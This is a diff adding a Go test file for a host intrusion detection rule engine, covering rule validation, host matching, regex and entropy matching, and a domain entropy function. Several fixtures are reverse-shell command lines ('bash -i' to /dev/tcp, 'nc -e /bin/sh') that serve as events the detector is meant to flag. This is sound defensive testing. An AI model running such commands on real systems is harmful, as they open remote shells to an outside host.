@@ -0,0 +1,205 @@
+package rule
+
+import (
+	"math"
+	"strings"
+	"testing"
+)
+
+func validRule() Rule {
+	return Rule{
+		Meta:   Meta{Name: "reverse shell", Level: 0, Technique: []string{"T1059.004"}, Tactic: []string{"TA0002"}},
+		Source: "process",
+		System: "linux",
+		Rules:  map[string]Item{"command": {Type: "regex", Data: `bash -i`}},
+	}
+}
+
+func TestValidate(t *testing.T) {
+	if err := Validate(validRule()); err != nil {
+		t.Fatalf("Validate(valid) = %v", err)
+	}
+	tests := []struct {
+		name   string
+		modify func(r *Rule)
+		want   string
+	}{
+		{"empty name", func(r *Rule) { r.Meta.Name = " " }, "meta.name"},
+		{"level", func(r *Rule) { r.Meta.Level = 3 }, "meta.level"},
+		{"technique", func(r *Rule) { r.Meta.Technique = []string{"T59"} }, "meta.technique"},
+		{"tactic", func(r *Rule) { r.Meta.Tactic = []string{"TA9999"} }, "meta.tactic"},
+		{"source", func(r *Rule) { r.Source = "registry" }, "source"},
+		{"system", func(r *Rule) { r.System = "mac" }, "system"},
+		{"no rules", func(r *Rule) { r.Rules = nil }, "rules 不能为空"},
+		{"empty tag", func(r *Rule) { r.Tags = []string{"web", ""} }, "tags"},
+		{"empty key", func(r *Rule) { r.Rules = map[string]Item{"": {Type: "string", Data: "x"}} }, "字段名"},
+		{"bad regex", func(r *Rule) { r.Rules = map[string]Item{"command": {Type: "regex", Data: `(`}} }, "rules.command 正则错误"},
+		{"bad non-regex", func(r *Rule) { r.Rules = map[string]Item{"command": {Type: "non-regex", Data: `[`}} }, "rules.command 正则错误"},
+		{"entropy", func(r *Rule) { r.Rules = map[string]Item{"domain": {Type: "entropy", Data: "high"}} }, "rules.domain 字符熵"},
+		{"count", func(r *Rule) { r.Rules = map[string]Item{"remote": {Type: "count", Data: "1.5"}} }, "rules.remote 出现次数"},
+		{"type", func(r *Rule) { r.Rules = map[string]Item{"command": {Type: "glob", Data: "*"}} }, "rules.command 判断方式"},
+	}
+	for _, tt := range tests {
+		r := validRule()
+		tt.modify(&r)
+		err := Validate(r)
+		if err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("%s: Validate = %v, want error containing %q", tt.name, err, tt.want)
+		}
+	}
+}
+
+func TestApplies(t *testing.T) {
+	r := validRule()
+	if !r.Applies("linux", "process", nil) {
+		t.Error("Applies(linux, process) = false")
+	}
+	if r.Applies("windows", "process", nil) || r.Applies("linux", "file", nil) {
+		t.Error("Applies matched another system or source")
+	}
+	r.System = "all"
+	r.Tags = []string{"db", "web"}
+	if !r.Applies("windows", "process", []string{"web"}) {
+		t.Error("Applies(all, tagged host) = false")
+	}
+	if r.Applies("windows", "process", []string{"office"}) || r.Applies("linux", "process", nil) {
+		t.Error("Applies matched a host without the tags")
+	}
+}
+
+func TestMatch(t *testing.T) {
+	counts := func(source string, key string, value string, n int) bool {
+		return source == "loginlog" && key == "remote" && value == "1.2.3.4" && n == 5
+	}
+	tests := []struct {
+		name  string
+		rule  Rule
+		event map[string]string
+		want  bool
+		info  string
+	}{
+		{
+			name:  "regex is case insensitive",
+			rule:  Rule{Source: "process", Rules: map[string]Item{"command": {Type: "regex", Data: `bash -i`}}},
+			event: map[string]string{"command": "BASH -i >& /dev/tcp/1.2.3.4/80"},
+			want:  true,
+			info:  "BASH -i >& /dev/tcp/1.2.3.4/80",
+		},
+		{
+			name:  "string",
+			rule:  Rule{Source: "userlist", Rules: map[string]Item{"name": {Type: "string", Data: "Guest"}}},
+			event: map[string]string{"name": "guest"},
+			want:  true,
+			info:  "guest",
+		},
+		{
+			name:  "non-regex",
+			rule:  Rule{Source: "process", Rules: map[string]Item{"parentname": {Type: "non-regex", Data: `^(bash|sh)$`}}},
+			event: map[string]string{"parentname": "nginx"},
+			want:  true,
+			info:  "nginx",
+		},
+		{
+			name:  "non-regex matched",
+			rule:  Rule{Source: "process", Rules: map[string]Item{"parentname": {Type: "non-regex", Data: `^(bash|sh)$`}}},
+			event: map[string]string{"parentname": "bash"},
+		},
+		{
+			name:  "not-regex empty",
+			rule:  Rule{Source: "process", Rules: map[string]Item{"parentname": {Type: "not-regex", Data: `^(bash|sh)$`}}},
+			event: map[string]string{"name": "nginx"},
+			want:  true,
+		},
+		{
+			name:  "not-regex matched",
+			rule:  Rule{Source: "process", Rules: map[string]Item{"parentname": {Type: "not-regex", Data: `^(bash|sh)$`}}},
+			event: map[string]string{"parentname": "sh"},
+		},
+		{
+			name: "and needs all",
+			rule: Rule{Source: "process", And: true, Rules: map[string]Item{
+				"name":    {Type: "string", Data: "nc"},
+				"command": {Type: "regex", Data: `-e`},
+			}},
+			event: map[string]string{"name": "nc", "command": "nc 1.2.3.4 80"},
+		},
+		{
+			name: "and info is sorted",
+			rule: Rule{Source: "process", And: true, Rules: map[string]Item{
+				"name":    {Type: "string", Data: "nc"},
+				"command": {Type: "regex", Data: `-e`},
+			}},
+			event: map[string]string{"name": "nc", "command": "nc -e /bin/sh 1.2.3.4 80"},
+			want:  true,
+			info:  "nc|nc -e /bin/sh 1.2.3.4 80",
+		},
+		{
+			name: "or needs one",
+			rule: Rule{Source: "process", Rules: map[string]Item{
+				"name":    {Type: "string", Data: "nc"},
+				"command": {Type: "regex", Data: `-e`},
+			}},
+			event: map[string]string{"name": "ncat", "command": "ncat -e /bin/sh"},
+			want:  true,
+			info:  "ncat -e /bin/sh",
+		},
+		{
+			name:  "entropy",
+			rule:  Rule{Source: "dns", Rules: map[string]Item{"domain": {Type: "entropy", Data: "3.5"}}},
+			event: map[string]string{"domain": "xj4k2l9qz7w1p0v.example.com"},
+			want:  true,
+			info:  "xj4k2l9qz7w1p0v.example.com",
+		},
+		{
+			name:  "entropy low",
+			rule:  Rule{Source: "dns", Rules: map[string]Item{"domain": {Type: "entropy", Data: "3.5"}}},
+			event: map[string]string{"domain": "www.google.com"},
+		},
+		{
+			name:  "count",
+			rule:  Rule{Source: "loginlog", Rules: map[string]Item{"remote": {Type: "count", Data: "5"}}},
+			event: map[string]string{"remote": "1.2.3.4"},
+			want:  true,
+			info:  "1.2.3.4",
+		},
+		{
+			name:  "missing field",
+			rule:  Rule{Source: "process", Rules: map[string]Item{"command": {Type: "regex", Data: `.`}}},
+			event: map[string]string{"name": "bash"},
+		},
+	}
+	for _, tt := range tests {
+		got, info := tt.rule.Match(tt.event, counts)
+		if got != tt.want || info != tt.info {
+			t.Errorf("%s: Match = %v %q, want %v %q", tt.name, got, info, tt.want, tt.info)
+		}
+	}
+
+	// count without CountFunc never matches
+	r := Rule{Source: "loginlog", Rules: map[string]Item{"remote": {Type: "count", Data: "5"}}}
+	if got, _ := r.Match(map[string]string{"remote": "1.2.3.4"}, nil); got {
+		t.Error("count matched without CountFunc")
+	}
+}
+
+func TestEntropy(t *testing.T) {
+	tests := []struct {
+		domain string
+		want   float64
+	}{
+		{"", 0},
+		{"aaaa.com", 0},
+		{"abcd", 2},
+		{"AbCd.x", 2},
+		{"aabb.c", 1},
+		{"ab.abc", 1.584962500721156},
+	}
+	for _, tt := range tests {
+		if got := Entropy(tt.domain); math.Abs(got-tt.want) > 1e-9 {
+			t.Errorf("Entropy(%q) = %v, want %v", tt.domain, got, tt.want)
+		}
+	}
+	if Entropy("xj4k2l9qz7w1p0v.com") <= Entropy("google.com") {
+		t.Error("random label should have higher entropy")
+	}
+}